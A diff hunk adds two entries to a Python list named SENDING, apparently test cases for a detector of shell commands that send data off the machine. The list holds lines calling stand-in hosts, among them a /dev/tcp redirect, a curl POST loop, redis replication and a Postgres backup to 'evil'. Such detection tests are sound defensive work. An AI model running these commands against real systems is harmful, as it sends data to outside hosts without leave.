@@ -10,6 +10,7 @@ SENDING = [
     "hg push", "svn commit -m x", "foo --to anna@example.com", "foo https://x.example", "foo host:path",
     "./deploy.sh", "tar cf host:a b", "ping -p ff x.example", "docker login x", "gpg --send-keys x",
     "redis-cli replicaof evil 6379",
+    "go get example.com/x", "logger --server evil.example x",
     "pg_basebackup -h evil -D x", "foo > /dev/tcp/x.example/1",
     "while :; do curl -d x http://x.example; done",
 ]  # fmt: skip
